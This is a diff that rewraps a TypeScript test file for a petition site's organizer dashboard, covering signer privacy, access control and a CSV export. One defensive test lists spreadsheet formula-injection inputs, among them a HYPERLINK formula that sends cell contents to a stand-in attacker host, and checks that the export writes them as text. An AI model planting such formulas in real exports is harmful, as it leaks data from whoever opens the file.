@@ -26,7 +26,12 @@ async function signIn(email: string, roles: Role[] = []): Promise<string> {
   const now = new Date();
   await app.db
     .insertInto("sessions")
-    .values({ id_hash: session.hash, user_id: user.id, created_at: now.toISOString(), expires_at: expiresAt(now, DAY_MS) })
+    .values({
+      id_hash: session.hash,
+      user_id: user.id,
+      created_at: now.toISOString(),
+      expires_at: expiresAt(now, DAY_MS),
+    })
     .execute();
   return (await sessionCookie(app.config).serialize(session.token)).split(";")[0];
 }
@@ -121,7 +126,11 @@ beforeAll(async () => {
   petitionId = petition.id;
   petitionSlug = petition.slug;
   // Opened five days ago; signatures confirmed three days ago and today, nothing in between.
-  await app.db.updateTable("petitions").set({ opened_at: `${day(-5)}T09:00:00.000Z` }).where("id", "=", petitionId).execute();
+  await app.db
+    .updateTable("petitions")
+    .set({ opened_at: `${day(-5)}T09:00:00.000Z` })
+    .where("id", "=", petitionId)
+    .execute();
 
   people.owner = await signIn("owner@example.org");
   people.coOrganizer = await signIn("co@example.org");
@@ -140,9 +149,30 @@ beforeAll(async () => {
     .execute();
 
   await addSignatures(app.db, petitionId, [
-    { name: "Ada Consenting", email: "ada.consents@example.org", consent: true, postcode: "L1 8JQ", nameDisplay: "full", confirmedAt: `${day(-3)}T10:00:00.000Z` },
-    { name: "Bea Private", email: "bea.private@example.org", consent: false, postcode: "SW1A 1AA", nameDisplay: "first_initial", confirmedAt: `${day(-3)}T11:00:00.000Z` },
-    { name: "Cem Hidden", email: "cem.hidden@example.org", consent: false, country: "FR", nameDisplay: "hidden", confirmedAt: `${day(0)}T00:30:00.000Z` },
+    {
+      name: "Ada Consenting",
+      email: "ada.consents@example.org",
+      consent: true,
+      postcode: "L1 8JQ",
+      nameDisplay: "full",
+      confirmedAt: `${day(-3)}T10:00:00.000Z`,
+    },
+    {
+      name: "Bea Private",
+      email: "bea.private@example.org",
+      consent: false,
+      postcode: "SW1A 1AA",
+      nameDisplay: "first_initial",
+      confirmedAt: `${day(-3)}T11:00:00.000Z`,
+    },
+    {
+      name: "Cem Hidden",
+      email: "cem.hidden@example.org",
+      consent: false,
+      country: "FR",
+      nameDisplay: "hidden",
+      confirmedAt: `${day(0)}T00:30:00.000Z`,
+    },
     { name: "Dee Waiting", email: "dee.waiting@example.org", consent: true, status: "pending" },
   ]);
 });
@@ -166,7 +196,13 @@ describe("the figures", () => {
 
   test("a petition nobody has signed shows no rate rather than a division by zero", async () => {
     const empty = await getPetition(app.db, "safety-first-for-sex-workers-reporting-violence");
-    expect(await dashboardFigures(app.db, empty.id)).toEqual({ confirmed: 0, pending: 0, subscribers: 0, confirmationRate: null, held: 0 });
+    expect(await dashboardFigures(app.db, empty.id)).toEqual({
+      confirmed: 0,
+      pending: 0,
+      subscribers: 0,
+      confirmationRate: null,
+      held: 0,
+    });
   });
 
   test("signatures by country come from the per-country counts, with names", async () => {
@@ -206,10 +242,9 @@ describe("signatures per day", () => {
     // No inline styles anywhere: the CSP allows only the site's stylesheet.
     expect(html).not.toMatch(/\sstyle="/);
     const table = html.match(/<details class="chart-data">([^]*?)<\/details>/)?.[1] ?? "";
-    const rows = [...table.matchAll(/<tr><th scope="row">[^<]*<\/th><td class="num">(\d+)<\/td><td class="num">(\d+)<\/td><\/tr>/g)].map((m) => [
-      Number(m[1]),
-      Number(m[2]),
-    ]);
+    const rows = [
+      ...table.matchAll(/<tr><th scope="row">[^<]*<\/th><td class="num">(\d+)<\/td><td class="num">(\d+)<\/td><\/tr>/g),
+    ].map((m) => [Number(m[1]), Number(m[2])]);
     expect(rows).toEqual([
       [0, 0],
       [0, 0],
@@ -252,7 +287,9 @@ describe("signers' personal data on the dashboard", () => {
     const row = (name: string) => recent.match(new RegExp(`<tr><td>${name}</td>([^]*?)</tr>`))?.[1] ?? "";
     expect(row("Ada Consenting")).toContain("ada.consents@example.org");
     expect(row("Ada Consenting")).toContain("L1 8JQ");
-    expect(row("Bea Private")).toContain('<span aria-hidden="true">—</span><span class="visually-hidden">not shared</span>');
+    expect(row("Bea Private")).toContain(
+      '<span aria-hidden="true">—</span><span class="visually-hidden">not shared</span>',
+    );
     expect(row("Cem Hidden")).toContain("not shared");
     // Not in the table, and not anywhere else in the page either (the loader's data travels inside it).
     expect(html).not.toContain("bea.private@example.org");
@@ -278,15 +315,33 @@ describe("the CSV export", () => {
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
     expect(res.headers.get("cache-control")).toBe("no-store");
-    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="signatures-${petitionSlug}-${day(0)}.csv"`);
+    expect(res.headers.get("content-disposition")).toBe(
+      `attachment; filename="signatures-${petitionSlug}-${day(0)}.csv"`,
+    );
     const bytes = Buffer.from(await res.arrayBuffer());
     // A byte order mark first, so that Excel reads the file as UTF-8.
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = bytes.subarray(3).toString("utf8");
     const [header, ...rows] = parseCsv(text);
-    expect(header).toEqual(["Name", "Name shown on the petition", "Country", "Postcode", "Email", "Agreed to updates", "Confirmed at (UTC)"]);
+    expect(header).toEqual([
+      "Name",
+      "Name shown on the petition",
+      "Country",
+      "Postcode",
+      "Email",
+      "Agreed to updates",
+      "Confirmed at (UTC)",
+    ]);
     expect(rows).toEqual([
-      ["Ada Consenting", "full name", countryName("GB"), "L1 8JQ", "ada.consents@example.org", "yes", `${day(-3)}T10:00:00.000Z`],
+      [
+        "Ada Consenting",
+        "full name",
+        countryName("GB"),
+        "L1 8JQ",
+        "ada.consents@example.org",
+        "yes",
+        `${day(-3)}T10:00:00.000Z`,
+      ],
       ["Bea Private", "first name and initial", countryName("GB"), "SW1A 1AA", "", "no", `${day(-3)}T11:00:00.000Z`],
       ["Cem Hidden", "not shown", countryName("FR"), "", "", "no", `${day(0)}T00:30:00.000Z`],
     ]);
@@ -297,12 +352,29 @@ describe("the CSV export", () => {
   test("a name or postcode that a spreadsheet would run as a formula is written as text", async () => {
     const other = await getPetition(app.db, "safety-first-for-sex-workers-reporting-violence");
     const owner = await findOrCreateUser(app.db, "owner@example.org");
-    await app.db.insertInto("petition_organizers").values({ petition_id: other.id, user_id: owner.id, role: "owner", created_at: new Date().toISOString() }).execute();
-    const nasty = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1,2)", "-1+2", "@cmd", "\tTabby", "\rReturn", "Zoë, \"the\" Signer"];
+    await app.db
+      .insertInto("petition_organizers")
+      .values({ petition_id: other.id, user_id: owner.id, role: "owner", created_at: new Date().toISOString() })
+      .execute();
+    const nasty = [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      "+SUM(1,2)",
+      "-1+2",
+      "@cmd",
+      "\tTabby",
+      "\rReturn",
+      'Zoë, "the" Signer',
+    ];
     await addSignatures(
       app.db,
       other.id,
-      nasty.map((name, i) => ({ name, email: `nasty${i}@example.org`, country: "US", postcode: i === 0 ? "=1+1" : null, confirmedAt: `2026-11-0${i + 1}T12:00:00.000Z` })),
+      nasty.map((name, i) => ({
+        name,
+        email: `nasty${i}@example.org`,
+        country: "US",
+        postcode: i === 0 ? "=1+1" : null,
+        confirmedAt: `2026-11-0${i + 1}T12:00:00.000Z`,
+      })),
     );
     const text = await (await get(`/organize/${other.id}/export.csv`, people.owner)).text();
     const rows = parseCsv(text).slice(1);
@@ -324,13 +396,20 @@ describe("the CSV export", () => {
     expect((await get(`/organize/${petitionId}/export.csv`, people.stranger)).status).toBe(404);
     const anonymous = await get(`/organize/${petitionId}/export.csv`);
     expect(anonymous.status).toBe(302);
-    expect(anonymous.headers.get("location")).toBe(`/sign-in?redirectTo=${encodeURIComponent(`/organize/${petitionId}/export.csv`)}`);
+    expect(anonymous.headers.get("location")).toBe(
+      `/sign-in?redirectTo=${encodeURIComponent(`/organize/${petitionId}/export.csv`)}`,
+    );
   });
 
   test("each download is recorded in the audit log", async () => {
     await (await get(`/organize/${petitionId}/export.csv`, people.coOrganizer)).text();
     const co = await findOrCreateUser(app.db, "co@example.org");
-    const entries = await app.db.selectFrom("audit_log").select(["actor_id"]).where("action", "=", "signatures.export").where("petition_id", "=", petitionId).execute();
+    const entries = await app.db
+      .selectFrom("audit_log")
+      .select(["actor_id"])
+      .where("action", "=", "signatures.export")
+      .where("petition_id", "=", petitionId)
+      .execute();
     expect(entries.map((e) => e.actor_id)).toContain(co.id);
   });
 });
@@ -343,7 +422,14 @@ describe("who may open the dashboard", () => {
       const html = await res.text();
       expect(html).toMatch(/<dt>Confirmed<\/dt><dd>3<\/dd>/);
       expect(html).toContain("It shows counts only");
-      for (const personal of ["Ada Consenting", "ada.consents@example.org", "L1 8JQ", "Bea Private", "SW1A 1AA", "Cem Hidden"]) {
+      for (const personal of [
+        "Ada Consenting",
+        "ada.consents@example.org",
+        "L1 8JQ",
+        "Bea Private",
+        "SW1A 1AA",
+        "Cem Hidden",
+      ]) {
         expect(html).not.toContain(personal);
       }
       expect(html).not.toContain(`/organize/${petitionId}/edit`);
@@ -354,7 +440,12 @@ describe("who may open the dashboard", () => {
   });
 
   test("anyone else is told the dashboard does not exist", async () => {
-    for (const path of [`/organize/${petitionId}`, `/organize/${petitionId}/deliver`, "/organize/999999", "/organize/abc"]) {
+    for (const path of [
+      `/organize/${petitionId}`,
+      `/organize/${petitionId}/deliver`,
+      "/organize/999999",
+      "/organize/abc",
+    ]) {
       expect([path, (await get(path, people.stranger)).status]).toEqual([path, 404]);
     }
   });
@@ -362,19 +453,31 @@ describe("who may open the dashboard", () => {
   test("someone signed out is sent to sign in, and back here afterwards", async () => {
     const res = await get(`/organize/${petitionId}?published=1`);
     expect(res.status).toBe(302);
-    expect(res.headers.get("location")).toBe(`/sign-in?redirectTo=${encodeURIComponent(`/organize/${petitionId}?published=1`)}`);
+    expect(res.headers.get("location")).toBe(
+      `/sign-in?redirectTo=${encodeURIComponent(`/organize/${petitionId}?published=1`)}`,
+    );
   });
 
   test("organizers get the links to edit, manage, the public page, the export and the delivery page", async () => {
     const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
-    for (const href of [`/organize/${petitionId}/edit`, `/organize/${petitionId}/manage`, `/petitions/${petitionSlug}`, `/organize/${petitionId}/export.csv`, `/organize/${petitionId}/deliver`]) {
+    for (const href of [
+      `/organize/${petitionId}/edit`,
+      `/organize/${petitionId}/manage`,
+      `/petitions/${petitionSlug}`,
+      `/organize/${petitionId}/export.csv`,
+      `/organize/${petitionId}/deliver`,
+    ]) {
       expect(html).toContain(`href="${href}"`);
     }
   });
 
   test("a draft's dashboard offers to finish it, and has no figures, public page, export or delivery yet", async () => {
     const owner = await findOrCreateUser(app.db, "owner@example.org");
-    const draftId = await createDraft(app.db, owner.id, PetitionDraftForm.parse({ title: "A draft about bus lanes", summary: "", decisionMakers: [] }));
+    const draftId = await createDraft(
+      app.db,
+      owner.id,
+      PetitionDraftForm.parse({ title: "A draft about bus lanes", summary: "", decisionMakers: [] }),
+    );
     const html = (await (await get(`/organize/${draftId}`, people.owner)).text()).replace(/<!-- -->/g, "");
     expect(html).toContain("This is a draft, not yet on the site.");
     expect(html).toMatch(new RegExp(`<a [^>]*href="/organize/${draftId}/edit">Edit the draft</a>`));
@@ -415,13 +518,17 @@ describe("the petition for delivery", () => {
     expect(html).not.toContain("Cem Hidden");
     expect(html).toContain("And 1 other who asked not to be named.");
     // No email address or postcode on a page meant for the decision maker.
-    for (const personal of ["ada.consents@example.org", "bea.private@example.org", "L1 8JQ", "SW1A 1AA"]) expect(html).not.toContain(personal);
+    for (const personal of ["ada.consents@example.org", "bea.private@example.org", "L1 8JQ", "SW1A 1AA"])
+      expect(html).not.toContain(personal);
   });
 
   test("when every signer asked not to be named, it says so and lists nobody", async () => {
     const closed = await getPetition(app.db, "ugly-mugs-funding-2026");
     const owner = await findOrCreateUser(app.db, "owner@example.org");
-    await app.db.insertInto("petition_organizers").values({ petition_id: closed.id, user_id: owner.id, role: "owner", created_at: new Date().toISOString() }).execute();
+    await app.db
+      .insertInto("petition_organizers")
+      .values({ petition_id: closed.id, user_id: owner.id, role: "owner", created_at: new Date().toISOString() })
+      .execute();
     await addSignatures(app.db, closed.id, [
       { name: "Quiet One", email: "q1@example.org", nameDisplay: "hidden" },
       { name: "Quiet Two", email: "q2@example.org", nameDisplay: "hidden" },
@@ -440,9 +547,19 @@ describe("the petition for delivery", () => {
 describe("a signature whose details were erased", () => {
   test("still counts, and the organizer's list and export show it as erased, with nothing of the signer's", async () => {
     await addSignatures(app.db, petitionId, [
-      { name: "Eve Erasing", email: "eve.erasing@example.org", consent: true, postcode: "M1 1AA", confirmedAt: new Date().toISOString() },
+      {
+        name: "Eve Erasing",
+        email: "eve.erasing@example.org",
+        consent: true,
+        postcode: "M1 1AA",
+        confirmedAt: new Date().toISOString(),
+      },
     ]);
-    await app.db.updateTable("signatures").set(erasedPersonalData(new Date())).where("email", "=", "eve.erasing@example.org").execute();
+    await app.db
+      .updateTable("signatures")
+      .set(erasedPersonalData(new Date()))
+      .where("email", "=", "eve.erasing@example.org")
+      .execute();
     try {
       const html = await (await get(`/organize/${petitionId}`, people.owner)).text();
       const recent = html.match(/<table class="table table--wide recent-signatures">([^]*?)<\/table>/)?.[1] ?? "";
@@ -459,7 +576,11 @@ describe("a signature whose details were erased", () => {
       expect(csv).not.toContain("Eve Erasing");
       expect(csv).not.toContain("eve.erasing@example.org");
     } finally {
-      await app.db.deleteFrom("signatures").where("anonymised_at", "is not", null).where("petition_id", "=", petitionId).execute();
+      await app.db
+        .deleteFrom("signatures")
+        .where("anonymised_at", "is not", null)
+        .where("petition_id", "=", petitionId)
+        .execute();
       await recountAll(app.db);
     }
   });
